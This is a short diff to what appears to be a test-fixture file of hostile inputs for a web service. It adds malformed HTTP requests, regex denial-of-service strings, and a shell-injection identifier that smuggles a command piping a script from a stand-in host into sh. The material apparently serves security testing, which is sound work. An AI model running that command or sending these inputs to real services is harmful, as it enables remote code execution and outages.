@@ -118,3 +118,15 @@ RAW_REQUESTS = [
     b"GET / HTTP/9.9\r\nHost: {host}\r\n\r\n",
     b"GET /conversations/a b HTTP/1.1\r\nHost: {host}\r\n\r\n",
 ]
+
+
+POISON_ANSWER = "```\n" + "\n" * 5000 + "x"  # as long for the typed answer's fence
+
+
+POISON_REPLY = "```" + " " * 5000 + "x"  # 35 s for `^```(?:json)?\s*(.*?)\s*```$`
+
+
+SHELL_ID = "x;curl -s evil.example/p|sh;#"
+
+
+EVIL = "a" * 40 + "!"
